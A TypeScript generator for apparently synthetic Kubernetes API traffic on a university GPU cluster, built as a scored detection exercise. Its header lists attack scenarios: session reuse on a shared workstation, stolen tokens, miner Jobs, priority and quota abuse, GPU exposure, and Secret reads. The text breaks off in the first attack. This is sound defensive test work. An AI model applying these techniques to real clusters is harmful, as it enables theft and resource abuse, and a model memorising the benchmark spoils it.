import { attackAdder, type AttackRequest, type DayEvent, lastScoredOf, LINUX, type Login, MAC, PLATFORM_HINT, prng, WIN, withAttacks, WS_UPGRADE } from './workday.js';

/**
 * A fourteenth replayed day, written as an outside red team and an outside observer would after
 * reading docs/risk.md, from situations days 1–13 do not have: a university's shared research
 * computing cluster, reached as `kubernetes.rc.uni.example`, on the first day of term, which is
 * also a conference's submission night. Warm-up Monday 4 October 2027, scored Tuesday 5 October
 * (hours UTC; the campus is on UTC+1, which changes nothing here).
 *
 * Routine, as the tools send it:
 * - per-user namespaces (`u-<name>`) and per-lab ones (`lab-vision`, `lab-nlp`, `lab-bio`,
 *   `lab-nlp-prod` for the NLP lab's public demo); GPU training as Kueue-managed batch Jobs
 *   (`kueue.x-k8s.io/queue-name`, `suspend: true`, `nvidia.com/gpu` limits), followed with
 *   `kubectl get workloads`, `logs -f` on the job's pod, and `kubectl-view-allocations` (a krew
 *   plugin listing every node and pod for GPU use); the bio lab's MPI jobs through Volcano's
 *   `vcctl` on the login node;
 * - kubectl goes through the SSH jump host everyone uses: on the lab's wired network a laptop talks
 *   to the gateway directly; anywhere else its kubeconfig's `proxy-url: socks5://localhost:1080`
 *   (an `ssh -D` to the login node) makes the gateway see the login node's address with the
 *   laptop's kubectl; some run the login node's own kubectl module instead (one build for all);
 * - JupyterHub in the browser (the hub's home, a server started, kernels and contents of
 *   `/user/<name>/`), from eduroam on campus (one NAT pool every institution's visitors share),
 *   from home, or from the shared workstation in the graduate room (one Ubuntu machine, one
 *   Firefox profile, several people a day); Headlamp (through `/clusters/rc/`) and the Kubernetes
 *   Dashboard's own API for the PI;
 * - three MSc students whose accounts were created this morning (no history: the newcomer
 *   allowance), at the shared workstation; a visiting researcher from a partner institution on
 *   eduroam; a student who visited that partner yesterday (its eduroam proven then);
 * - the submission deadline: an NLP student submitting jobs every few minutes until 23:30;
 * - two admins on call: in the morning the new accounts' namespaces (Namespace, ResourceQuota,
 *   LocalQueue, RoleBinding by `kubectl apply`), then a GPU node whose GPU fell off the bus (Xid
 *   79) cordoned and drained, the device plugin restarted; in the evening the deadline's
 *   ClusterQueue quota raised and another node drained.
 *
 * The attacks (public tradecraft and incidents: Tesla's 2018 cryptojacking through an open
 * Kubernetes Dashboard, world-readable `~/.kube` caches on shared login nodes, malicious PyPI
 * packages reading a notebook's mounted token, NVIDIA's container toolkit honouring
 * `NVIDIA_VISIBLE_DEVICES`, Kueue's and Volcano's priority and queue objects): another user's open
 * Headlamp session on the shared workstation; the JupyterHub admin's session left open there; a
 * notebook's service-account token used from campus eduroam; miner Jobs through the lab's Kueue
 * queue; the deadline's PriorityClass named by a Volcano Job and by Kueue's WorkloadPriorityClass
 * label; a LocalQueue pointed at the deadline's reserved ClusterQueue; a ClusterQueue's GPU quota
 * raised; a pod seeing every GPU of its node through `NVIDIA_VISIBLE_DEVICES=all`; a token copied
 * at the partner institution used from its eduroam; a token cache read on the login node; the
 * Kubernetes Dashboard's own API reading another lab's Secret; an insider on deadline night
 * deleting another lab's queued workloads.
 */

export const D14_MON = Date.UTC(2027, 9, 4, 0, 0, 0); // warm-up
export const D14_TUE = Date.UTC(2027, 9, 5, 0, 0, 0); // the scored day: first day of term, deadline night
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const RC = 'kubernetes.rc.uni.example';
const JHUB = 'jupyter.localhost';
const HEADLAMP = 'headlamp.localhost';
export const DASHBOARD = 'dashboard.localhost';

/** The SSH jump host (login node): kubectl through its SOCKS tunnel, or its own kubectl module. */
export const LOGIN_NODE = '10.200.0.10';
/** The graduate room's shared workstation: one machine, one Firefox profile. */
export const SHARED_WS = '10.128.5.21';
/** Campus eduroam's NAT pool: every device on eduroam here, visitors from any institution included. */
export const EDUROAM = ['193.60.220.5', '193.60.220.6'];
/** The partner institution's eduroam NAT: the student who visited yesterday, and whoever is there today. */
export const PARTNER_EDUROAM = '145.100.4.20';

const KUBECTL_LAPTOP = (os: string) => `kubectl/v1.31.2 (${os}) kubernetes/5864a46`;
/** The login node's `module load kubectl`: one build for everyone. */
export const KUBECTL_LOGIN = 'kubectl/v1.30.5 (linux/amd64) kubernetes/74e84a9';
const CLIENT_GO = (bin: string, os: string) => `${bin}/v0.0.0 (${os}) kubernetes/$Format`;
const FIREFOX = (os: string) => `Mozilla/5.0 (${os}; rv:131.0) Gecko/20100101 Firefox/131.0`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36`;
const CH_UA = '"Google Chrome";v="129", "Not=A?Brand";v="8", "Chromium";v="129"';

const JSON_CT = { 'content-type': 'application/json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const APPLY = { 'content-type': 'application/apply-patch+yaml' };
const WS = WS_UPGRADE;

type Where = 'lab' | 'eduroam' | 'home' | 'shared-ws' | 'partner' | 'login';
type Kind = 'phd' | 'msc' | 'postdoc' | 'bio' | 'pi' | 'admin' | 'visitor';
type Sitting = [number, number, Where];

interface Person {
  name: string;
  short: string;
  idx: number;
  lab: string;
  kind: Kind;
  os: string;
  kubectlOs: string;
  /** Runs the login node's kubectl (ssh in, `module load kubectl`) instead of a laptop's. */
  onLogin: boolean;
  browser: 'firefox' | 'chrome';
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, lab: string, warm: Sitting[], scored: Sitting[], os = LINUX, onLogin = false, browser: Person['browser'] = 'firefox') => {
    const j = () => (rand() - 0.5) * 0.3;
    out.push({
      name: `d14-${short}@uni.example`,
      short,
      idx: out.length,
      lab,
      kind,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : os === WIN ? 'windows/amd64' : 'linux/amd64',
      onLogin,
      browser,
      warm: warm.map(([a, b, w]) => [a + j(), b + j(), w]),
      scored: scored.map(([a, b, w]) => [a + j(), b + j(), w]),
      lunch: 12 + rand() * 0.6,
    });
  };
  add('phd-vision-1', 'phd', 'vision', [[9, 18, 'lab']], [[9, 13, 'lab'], [14, 18.5, 'eduroam']], MAC, false, 'chrome');
  add('phd-vision-2', 'phd', 'vision', [[10, 19, 'home']], [[10, 19, 'home']], LINUX);
  add('phd-vision-3', 'phd', 'vision', [[8.5, 17, 'eduroam']], [[8.5, 17, 'eduroam']], WIN, false, 'chrome');
  add('phd-nlp-1', 'phd', 'nlp', [[9, 17, 'partner']], [[10, 18, 'lab'], [19.5, 23.5, 'home']], MAC, false, 'chrome');
  add('phd-nlp-2', 'phd', 'nlp', [[9.5, 18, 'lab']], [[9.5, 18, 'lab']], LINUX, true);
  add('postdoc-nlp', 'postdoc', 'nlp', [[9, 17.5, 'lab']], [[8.8, 10, 'lab'], [10, 10.7, 'shared-ws'], [10.8, 17.5, 'lab']], MAC, false, 'chrome');
  add('ra-bio', 'bio', 'bio', [[8, 16.5, 'login']], [[8, 16.5, 'login']], LINUX, true);
  add('visitor-bio', 'visitor', 'bio', [[9.5, 17, 'eduroam']], [[9.5, 17, 'eduroam']], MAC, true, 'chrome');
  add('pi-vision', 'pi', 'vision', [[8, 10, 'home'], [10.5, 17, 'eduroam']], [[7.5, 9.5, 'home'], [10, 16.5, 'eduroam']], MAC, false, 'chrome');
  add('admin-1', 'admin', 'rc', [[8, 17, 'lab']], [[8, 17, 'lab']], LINUX);
  add('admin-2', 'admin', 'rc', [[9, 17, 'lab']], [[8.7, 9.6, 'shared-ws'], [9.7, 13, 'lab'], [16, 23.9, 'home']], LINUX);
  // The term's new accounts: no warm-up day; their first sign-in at the shared workstation.
  add('msc-1', 'msc', 'vision', [], [[9.2, 12, 'shared-ws'], [13, 17, 'eduroam']], LINUX, true);
  add('msc-2', 'msc', 'vision', [], [[9.4, 12, 'eduroam'], [14.6, 17.5, 'shared-ws']], LINUX, true);
  add('msc-3', 'msc', 'nlp', [], [[10, 16, 'eduroam']], MAC, true, 'chrome');
  return out;
}

function addressOf(p: Person, where: Where, k: number): string {
  const i = p.idx;
  switch (where) {
    case 'lab':
      return `10.128.${2 + (i % 3)}.${40 + i}`;
    case 'eduroam':
      // The NAT picks one of the pool's addresses per connection.
      return EDUROAM[k % 2]!;
    case 'home':
      return i % 2 ? `81.2.${60 + i}.${100 + i}` : `86.14.${30 + i}.${12 + i}`;
    case 'shared-ws':
      return SHARED_WS;
    case 'partner':
      return PARTNER_EDUROAM;
    case 'login':
      return LOGIN_NODE;
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean };

const GPU_IMAGE = 'nvcr.io/nvidia/pytorch:24.09-py3';

/** `kubectl create -f train.yaml`: a Kueue-managed Job in the user's namespace, created suspended. */
export function kueueJob(ns: string, name: string, queue: string, gpus: number, extra: { labels?: Record<string, string>; command?: string[]; image?: string; parallelism?: number; env?: { name: string; value: string }[]; limits?: Record<string, string> } = {}): string {
  const limits = extra.limits ?? { 'nvidia.com/gpu': String(gpus), cpu: String(gpus * 8), memory: `${gpus * 64}Gi` };
  return JSON.stringify({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name, namespace: ns, labels: { 'kueue.x-k8s.io/queue-name': queue, ...extra.labels } },
    spec: {
      suspend: true,
      parallelism: extra.parallelism ?? 1,
      completions: extra.parallelism ?? 1,
      backoffLimit: 0,
      template: {
        spec: {
          restartPolicy: 'Never',
          containers: [{ name: 'train', image: extra.image ?? GPU_IMAGE, command: extra.command ?? ['python', 'train.py', '--config', `configs/${name}.yaml`], ...(extra.env ? { env: extra.env } : {}), resources: { limits } }],
          volumes: [{ name: 'data', persistentVolumeClaim: { claimName: 'datasets' } }],
        },
      },
    },
  });
}

/** A Volcano Job of the bio lab's MPI pipeline (`vcctl job run -f`). */
export function volcanoJob(ns: string, name: string, extra: { priorityClassName?: string; gpus?: number } = {}): string {
  const task = (tname: string, replicas: number, cmd: string[]) => ({
    replicas,
    name: tname,
    template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: tname, image: 'registry.rc.uni.example/bio/alphafold-mpi:2.3.2', command: cmd, resources: { limits: { cpu: '16', memory: '64Gi', ...(extra.gpus ? { 'nvidia.com/gpu': String(extra.gpus) } : {}) } } }] } },
  });
  return JSON.stringify({
    apiVersion: 'batch.volcano.sh/v1alpha1',
    kind: 'Job',
    metadata: { name, namespace: ns },
    spec: {
      minAvailable: 3,
      schedulerName: 'volcano',
      queue: 'bio',
      ...(extra.priorityClassName ? { priorityClassName: extra.priorityClassName } : {}),
      plugins: { ssh: [], svc: [] },
      tasks: [task('mpimaster', 1, ['mpirun', '--hostfile', '/etc/volcano/mpiworker.host', 'python', 'fold.py']), task('mpiworker', 2, ['/usr/sbin/sshd', '-D'])],
    },
  });
}

const podOf = (job: string, rand: () => number) => `${job}-${['8xq2k', 'm4tz7', 'c9wpl', 'r2v6d'][Math.floor(rand() * 4)]}`;

/** A PhD student's kubectl: Kueue Jobs in their own namespace, workloads, logs, the lab's namespace, GPU allocation. */
function phdTask(rand: () => number, p: Person, deadline: boolean): Req[] {
  const ns = `u-${p.short}`;
  const labNs = `lab-${p.lab}`;
  const job = `train-${Math.floor(rand() * 1e6).toString(36)}`;
  const k = rand();
  if (k < (deadline ? 0.3 : 0.12))
    return [
      { method: 'POST', path: `/apis/batch/v1/namespaces/${ns}/jobs?fieldManager=kubectl-create`, headers: JSON_CT, body: kueueJob(ns, job, `${p.lab}-queue`, 1 + Math.floor(rand() * 4)) },
      { method: 'GET', path: `/apis/kueue.x-k8s.io/v1beta1/namespaces/${ns}/workloads?limit=500` },
    ];
  if (k < 0.35) return [{ method: 'GET', path: `/apis/kueue.x-k8s.io/v1beta1/namespaces/${ns}/workloads?limit=500` }, { method: 'GET', path: `/apis/batch/v1/namespaces/${ns}/jobs?limit=500` }];
  if (k < 0.55) {
    const po = podOf(job, rand);
    return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=batch.kubernetes.io%2Fjob-name%3D${job}&limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=train&follow=true&tailLines=100` }];
  }
  if (k < 0.63) return [{ method: 'GET', path: '/api/v1/nodes?labelSelector=nvidia.com%2Fgpu.present%3Dtrue', ua: 'kubectl-view-allocations/0.18.1' }, { method: 'GET', path: '/api/v1/pods?fieldSelector=status.phase%3DRunning', ua: 'kubectl-view-allocations/0.18.1' }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/${labNs}/secrets/wandb-api-key` }];
  if (k < 0.76) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${podOf(job, rand)}/exec?command=nvidia-smi&container=train&stdout=true&stderr=true`, headers: WS }];
  if (k < 0.82) return [{ method: 'DELETE', path: `/apis/batch/v1/namespaces/${ns}/jobs/${job}?propagationPolicy=Background` }];
  if (k < 0.9) return [{ method: 'GET', path: `/apis/kueue.x-k8s.io/v1beta1/namespaces/${ns}/localqueues?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${labNs}/pods?limit=500` }];
  return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/persistentvolumeclaims?limit=500` }];
}

/** JupyterHub: the hub's home, the user's server, kernels and notebooks. */
function jupyterTask(rand: () => number, p: Person): Req[] {
  const u = p.name;
  const k = rand();
  if (k < 0.15) return [{ method: 'GET', host: JHUB, path: '/hub/home', browser: true }, { method: 'POST', host: JHUB, path: `/hub/api/users/${encodeURIComponent(u)}/server`, headers: { ...JSON_CT, 'x-xsrftoken': 'f3a9c1' }, body: '{}', browser: true }];
  if (k < 0.5) return [{ method: 'GET', host: JHUB, path: `/user/${encodeURIComponent(u)}/api/kernels?${1_727_000_000_000 + Math.floor(rand() * 1e9)}`, browser: true }, { method: 'GET', host: JHUB, path: `/user/${encodeURIComponent(u)}/api/contents/thesis/experiments.ipynb?content=1&type=notebook`, browser: true }];
  if (k < 0.75) return [{ method: 'PUT', host: JHUB, path: `/user/${encodeURIComponent(u)}/api/contents/thesis/experiments.ipynb`, headers: JSON_CT, body: JSON.stringify({ type: 'notebook', format: 'json', content: { cells: [], metadata: {}, nbformat: 4, nbformat_minor: 5 } }), browser: true }];
  return [{ method: 'GET', host: JHUB, path: `/user/${encodeURIComponent(u)}/api/kernels/7b1e4c2a-${Math.floor(rand() * 1e4)}/channels?session_id=91ad`, headers: { connection: 'Upgrade', upgrade: 'websocket' }, browser: true }];
}

/** An MSc student's first day: JupyterHub mostly, the login node's kubectl now and then. */
function mscTask(rand: () => number, p: Person): Req[] {
  const ns = `u-${p.short}`;
  const k = rand();
  if (k < 0.6) return jupyterTask(rand, p);
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/apis/kueue.x-k8s.io/v1beta1/namespaces/${ns}/localqueues?limit=500` }];
  if (k < 0.9) return [{ method: 'POST', path: `/apis/batch/v1/namespaces/${ns}/jobs?fieldManager=kubectl-create`, headers: JSON_CT, body: kueueJob(ns, `hello-gpu-${Math.floor(rand() * 1e4)}`, `${p.lab}-queue`, 1) }];
  return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/resourcequotas?limit=500` }];
}

/** The NLP postdoc: the lab's public demo (lab-nlp-prod) and the lab's namespace. */
function postdocTask(rand: () => number, where: Where): Req[] {
  // At the shared workstation they use Headlamp in its Firefox (their laptop is charging).
  const hl = (path: string): Req => ({ method: 'GET', host: HEADLAMP, path: `/clusters/rc${path}`, browser: true });
  const k = rand();
  if (where === 'shared-ws') {
    if (k < 0.4) return [hl('/api/v1/namespaces/lab-nlp-prod/pods?limit=500'), hl('/apis/apps/v1/namespaces/lab-nlp-prod/deployments?limit=500')];
    if (k < 0.6) return [hl('/api/v1/namespaces/lab-nlp-prod/secrets/hf-api-token')];
    if (k < 0.8) return [hl('/api/v1/namespaces/lab-nlp-prod/pods/demo-6f9c7d-x2kq9/log?container=demo&tailLines=100')];
    return [hl('/api/v1/namespaces/lab-nlp/pods?limit=500')];
  }
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/namespaces/lab-nlp-prod/pods?limit=500' }, { method: 'GET', path: '/apis/apps/v1/namespaces/lab-nlp-prod/deployments/demo' }];
  if (k < 0.42) return [{ method: 'GET', path: '/api/v1/namespaces/lab-nlp-prod/secrets/hf-api-token' }];
  if (k < 0.5)
    return [{ method: 'PATCH', path: '/apis/apps/v1/namespaces/lab-nlp-prod/deployments/demo?fieldManager=kubectl-set', headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'demo', image: `registry.rc.uni.example/nlp/demo:2027.10.${Math.floor(rand() * 20)}` }] } } } }) }];
  if (k < 0.65) return [{ method: 'GET', path: '/api/v1/namespaces/lab-nlp-prod/pods/demo-6f9c7d-x2kq9/log?container=demo&tailLines=200' }];
  if (k < 0.8) return [{ method: 'GET', path: '/apis/kueue.x-k8s.io/v1beta1/namespaces/lab-nlp/workloads?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/lab-nlp/pods?limit=500' }];
  return [{ method: 'GET', path: '/api/v1/namespaces/lab-nlp/secrets/wandb-api-key' }];
}

/** The bio lab: Volcano MPI jobs from the login node with vcctl, and kubectl there. */
function bioTask(rand: () => number, p: Person): Req[] {
  const ua = CLIENT_GO('vcctl', 'linux/amd64');
  const job = `fold-${Math.floor(rand() * 1e5).toString(36)}`;
  const k = rand();
  if (k < 0.15) return [{ method: 'POST', path: '/apis/batch.volcano.sh/v1alpha1/namespaces/lab-bio/jobs', headers: JSON_CT, body: volcanoJob('lab-bio', job), ua }, { method: 'GET', path: `/apis/batch.volcano.sh/v1alpha1/namespaces/lab-bio/jobs/${job}`, ua }];
  if (k < 0.35) return [{ method: 'GET', path: '/apis/batch.volcano.sh/v1alpha1/namespaces/lab-bio/jobs', ua }, { method: 'GET', path: '/apis/scheduling.volcano.sh/v1beta1/queues', ua }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/lab-bio/pods/${job}-mpimaster-0/log?container=mpimaster&follow=true` }];
  if (k < 0.7) return [{ method: 'GET', path: '/api/v1/namespaces/lab-bio/secrets/uniprot-ftp' }];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/lab-bio/pods/${job}-mpimaster-0/exec?command=bash&container=mpimaster&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (p.kind === 'visitor' && k < 0.9) return jupyterTask(rand, p);
  return [{ method: 'GET', path: '/api/v1/namespaces/lab-bio/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/u-${p.short}/pods?limit=500` }];
}

/** The PI: Headlamp and the Kubernetes Dashboard in the browser, the lab's GPU use. */
function piTask(rand: () => number): Req[] {
  const hl = (path: string): Req => ({ method: 'GET', host: HEADLAMP, path: `/clusters/rc${path}`, browser: true });
  const k = rand();
  if (k < 0.3) return [hl('/api/v1/namespaces/lab-vision/pods?limit=500'), hl('/apis/kueue.x-k8s.io/v1beta1/namespaces/lab-vision/workloads?limit=500')];
  if (k < 0.5) return [{ method: 'GET', host: DASHBOARD, path: '/api/v1/pod/lab-vision?itemsPerPage=10&page=1&sortBy=d,creationTimestamp', browser: true }, { method: 'GET', host: DASHBOARD, path: '/api/v1/job/u-phd-vision-1?itemsPerPage=10&page=1', browser: true }];
  if (k < 0.6) return [{ method: 'GET', host: DASHBOARD, path: '/api/v1/secret/lab-vision/wandb-api-key', browser: true }];
  if (k < 0.8) return [hl('/api/v1/namespaces/u-phd-vision-1/pods?limit=500'), hl('/api/v1/namespaces/u-phd-vision-2/pods?limit=500')];
  return [hl('/api/v1/nodes?labelSelector=nvidia.com%2Fgpu.present%3Dtrue')];
}

/** The admins' day: reading the system, Kueue's and the GPU operator's namespaces. */
function adminTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/gpu-operator/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/kueue-system/pods?limit=500' }];
  if (k < 0.65) return [{ method: 'GET', path: '/apis/kueue.x-k8s.io/v1beta1/clusterqueues?limit=500' }];
  if (k < 0.8) return [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500' }];
  return [{ method: 'GET', path: '/api/v1/namespaces?limit=500' }, { method: 'GET', path: '/apis/kueue.x-k8s.io/v1beta1/workloads?limit=500' }];
}

/** The morning's new accounts: a namespace per student, its quota, queue and binding (`kubectl apply --server-side -f accounts/`). */
function newAccounts(names: string[]): Req[] {
  const out: Req[] = [];
  for (const n of names) {
    const ns = `u-${n}`;
    const ap = (path: string, obj: Record<string, unknown>): Req => ({ method: 'PATCH', path: `${path}?fieldManager=kubectl&fieldValidation=Strict&force=false`, headers: APPLY, body: JSON.stringify(obj) });
    out.push(
      ap(`/api/v1/namespaces/${ns}`, { apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns, labels: { 'rc.uni.example/owner': n } } }),
      ap(`/api/v1/namespaces/${ns}/resourcequotas/gpu`, { apiVersion: 'v1', kind: 'ResourceQuota', metadata: { name: 'gpu', namespace: ns }, spec: { hard: { 'requests.nvidia.com/gpu': '2', 'limits.cpu': '32' } } }),
      ap(`/apis/kueue.x-k8s.io/v1beta1/namespaces/${ns}/localqueues/vision-queue`, { apiVersion: 'kueue.x-k8s.io/v1beta1', kind: 'LocalQueue', metadata: { name: 'vision-queue', namespace: ns }, spec: { clusterQueue: 'cq-teaching' } }),
      ap(`/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings/owner`, { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'owner', namespace: ns }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' }, subjects: [{ kind: 'User', name: `d14-${n}@uni.example` }] }),
    );
  }
  return out;
}

/** A GPU fell off the bus (Xid 79): the node cordoned, its pods evicted, the device plugin restarted. */
function drainGpuNode(node: string, pods: [string, string][]): Req[] {
  return [
    { method: 'GET', path: `/api/v1/nodes/${node}` },
    { method: 'PATCH', path: `/api/v1/nodes/${node}`, headers: SMP, body: JSON.stringify({ spec: { unschedulable: true } }) },
    { method: 'GET', path: `/api/v1/pods?fieldSelector=spec.nodeName%3D${node}&limit=500` },
    ...pods.map(([ns, po]): Req => ({ method: 'POST', path: `/api/v1/namespaces/${ns}/pods/${po}/eviction`, headers: JSON_CT, body: JSON.stringify({ apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: po, namespace: ns } }) })),
    { method: 'GET', path: '/api/v1/namespaces/gpu-operator/pods?labelSelector=app%3Dnvidia-device-plugin-daemonset' },
    { method: 'DELETE', path: '/api/v1/namespaces/gpu-operator/pods/nvidia-device-plugin-daemonset-7xk2p' },
  ];
}

/** The deadline's extra GPUs: the ClusterQueue's nominal quota raised for the night. */
function raiseDeadlineQuota(gpus: number): Req[] {
  return [
    { method: 'GET', path: '/apis/kueue.x-k8s.io/v1beta1/clusterqueues/cq-nlp' },
    { method: 'PATCH', path: '/apis/kueue.x-k8s.io/v1beta1/clusterqueues/cq-nlp', headers: MERGE, body: JSON.stringify({ spec: { resourceGroups: [{ coveredResources: ['nvidia.com/gpu'], flavors: [{ name: 'a100', resources: [{ name: 'nvidia.com/gpu', nominalQuota: gpus }] }] }] } }) },
  ];
}

export function workday14(seed = 121): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 14);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D14_MON, D14_TUE]) {
    const scored = day === D14_TUE;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const sittings = scored ? p.scored : p.warm;
      const mine: DayEvent[] = [];
      // One sign-in per place: the browser and kubectl's credential plugin share it. The shared
      // workstation's browser gets its own (it is another machine).
      const signIn = (t: number, tag: string): Login => ({ sub: p.name, sid: `${p.name}:${day}:${tag}`, authTime: Math.floor((t - 40 * S) / 1000), acr: 'urn:stepgate:aal2' });
      const laptopLogin = sittings.length > 0 ? signIn(at(sittings.find(([, , w]) => w !== 'shared-ws')?.[0] ?? sittings[0]![0]), 'laptop') : undefined;
      let n = 0;
      sittings.forEach(([from, to, where]) => {
        const login = where === 'shared-ws' ? signIn(at(from), `ws-${Math.round(from * 10)}`) : laptopLogin!;
        const push = (t: number, q: Req) => {
          const browser = q.browser === true;
          const onLogin = p.onLogin || where === 'login';
          // kubectl off the lab's wired network goes through the jump host's SOCKS tunnel.
          const kubectlIp = onLogin || (where !== 'lab' && where !== 'shared-ws') ? LOGIN_NODE : addressOf(p, where, n);
          const kubectlUa = onLogin || where === 'shared-ws' ? KUBECTL_LOGIN : KUBECTL_LAPTOP(p.kubectlOs);
          const os = where === 'shared-ws' ? LINUX : p.os;
          const bua = where === 'shared-ws' ? FIREFOX(LINUX) : p.browser === 'chrome' ? CHROME(os) : FIREFOX(os);
          const ua = q.ua ?? (browser ? bua : kubectlUa);
          const hints = browser && bua.includes('Chrome') ? { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[os]! } : undefined;
          const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
          n++;
          mine.push({
            at: Math.round(t),
            actor: p.name,
            scored,
            ip: browser ? addressOf(p, where === 'login' ? 'lab' : where, n) : kubectlIp,
            ua,
            login,
            method: q.method,
            path: q.path,
            host: q.host ?? RC,
            ...(headers ? { headers } : {}),
            ...(q.body !== undefined ? { body: q.body } : {}),
          });
        };
        const run = (tt: number, reqs: Req[], gapMs: number, clearMin: number) => {
          if (tt < at(from) || tt >= at(to)) return;
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - 2 * M && mine[k]!.at <= tt + clearMin * M) mine.splice(k, 1);
          reqs.forEach((q, k) => push(tt + k * gapMs, q));
        };
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.75 && from < p.lunch && to > p.lunch + 0.75) {
            t = at(p.lunch + 0.75) + S;
            continue;
          }
          const deadline = scored && p.short === 'phd-nlp-1' && h > 19;
          let reqs: Req[];
          if (p.kind === 'phd') reqs = rand() < 0.25 ? jupyterTask(rand, p) : phdTask(rand, p, deadline);
          else if (p.kind === 'msc') reqs = mscTask(rand, p);
          else if (p.kind === 'postdoc') reqs = postdocTask(rand, where);
          else if (p.kind === 'bio' || p.kind === 'visitor') reqs = bioTask(rand, p);
          else if (p.kind === 'pi') reqs = piTask(rand);
          else if (p.kind === 'admin' && where === 'shared-ws')
            // Helping the new students at the graduate room's machine: JupyterHub's admin page.
            reqs = [{ method: 'GET', host: JHUB, path: '/hub/admin', browser: true }, { method: 'GET', host: JHUB, path: '/hub/api/users?state=active&offset=0&limit=50', browser: true }];
          else reqs = adminTask(rand);
          const gap = 500 + rand() * 1500;
          reqs.forEach((q, k) => push(t + k * gap, q));
          t += deadline ? 3 * M + rand() * 5 * M : p.kind === 'msc' ? 4 * M + rand() * 8 * M : 5 * M + rand() * 12 * M;
        }
        if (p.short === 'admin-1' && scored) {
          run(at(8.4), newAccounts(['msc-1', 'msc-2', 'msc-3']), 3 * S, 2);
          run(at(11.2), drainGpuNode('gpu-a100-07', [['u-phd-vision-1', 'train-4kq2-8xq2k'], ['lab-nlp', 'sweep-17-m4tz7'], ['lab-bio', 'fold-2xk-mpiworker-1']]), 6 * S, 3);
        }
        if (p.short === 'admin-1' && !scored) run(at(14), drainGpuNode('gpu-a100-03', [['u-phd-nlp-1', 'train-9zz-c9wpl']]), 6 * S, 3);
        if (p.short === 'admin-2' && scored && where === 'home') {
          run(at(18.5), raiseDeadlineQuota(48), 20 * S, 2);
          run(at(21.3), drainGpuNode('gpu-a100-11', [['u-phd-nlp-1', 'train-dl-r2v6d'], ['lab-nlp', 'sweep-22-8xq2k']]), 6 * S, 3);
        }
        if (p.short === 'admin-2' && !scored) run(at(15), raiseDeadlineQuota(32), 20 * S, 2);
      });
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks14(people, events));
}

function attacks14(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const by = (short: string) => people.find((p) => p.short === short)!;
  const add = attackAdder(out);
  const T = (h: number) => D14_TUE + h * H;
  const on = (reqs: AttackRequest[], host = RC): AttackRequest[] => reqs.map(([m, p, s, h, b, hh]) => [m, p, s, h, b, hh ?? host]);
  const kubectl = (x: DayEvent) => x.ua.startsWith('kubectl/') && x.host === RC;
  /** Malware on the victim's laptop: their kubectl's address, agent and token at `h`. */
  const onLaptop = (attack: string, p: Person, h: number, reqs: AttackRequest[], gapMs: number) => {
    const v = lastScoredOf(routine, p.name, T(h), kubectl);
    add(attack, T(h), v.ip, v.ua, v.login, on(reqs), gapMs, p);
  };
  const ff = { 'sec-fetch-mode': 'cors' };

  // 1. The shared workstation at 14:40: the NLP postdoc's Headlamp session from this morning is
  // still open in the machine's one Firefox profile; an MSc student of another lab reads the NLP
  // lab's Secrets (the demo's Hugging Face token, the lab's W&B key) through it.
  const pd = by('postdoc-nlp');
  const pdws = lastScoredOf(routine, pd.name, T(10.6), (x) => x.host === HEADLAMP);
  add("shared workstation: another user's open Headlamp session reads a lab's Secrets", T(14.7), SHARED_WS, pdws.ua, pdws.login, on([
